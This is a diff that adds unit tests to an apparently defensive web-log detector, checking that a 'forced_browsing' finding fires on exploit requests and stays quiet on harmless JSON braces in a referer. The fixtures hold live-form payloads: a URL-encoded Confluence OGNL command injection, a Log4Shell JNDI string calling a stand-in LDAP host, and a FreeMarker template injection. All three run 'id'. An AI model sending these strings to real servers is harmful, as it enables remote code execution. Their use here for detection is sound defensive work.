@@ -92,6 +92,27 @@ def test_forced_browsing_fires_on_probes_with_a_browser_agent():
     assert fired(f) and f.strength == 1.0
 
 
+def test_forced_browsing_fires_on_one_exploit_payload_wherever_it_rides():
+    # Confluence OGNL in the path, Log4Shell in the Referer, FreeMarker behind an encoded "/".
+    ognl = ("/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang."
+            "Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/")
+    cases = [rec(0, ognl, ip="198.51.100.1", status=404),
+             rec(0, "/", ip="198.51.100.2", referer="${jndi:ldap://203.0.113.250/a}"),
+             rec(0, "%2Fcatalog-portal%2Fui%2Foauth%2Fverify%3Ferror%3D%26deviceUdid%3D%24%7B"
+                    "%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22id%22%29%7D",
+                 ip="198.51.100.3")]
+    eng = run(cases)
+    for ip in ("198.51.100.1", "198.51.100.2", "198.51.100.3"):
+        f = finding(eng, "forced_browsing", ip)
+        assert fired(f) and f.strength == 1.0, ip
+
+
+def test_forced_browsing_ignores_braces_in_an_ordinary_referer():
+    ref = "https://shop.example/search?f=%7B%22color%22%3A%22red%22%7D"
+    eng = run(rec(i, f"/api/products/{i}", referer=ref) for i in range(12))
+    assert not fired(finding(eng, "forced_browsing", "203.0.113.9"))
+
+
 def test_forced_browsing_fires_on_a_wall_of_404s():
     eng = run(rec(i, f"/{random.Random(i).randrange(10**6):06d}x", status=404) for i in range(40))
     assert fired(finding(eng, "forced_browsing", "203.0.113.9"))
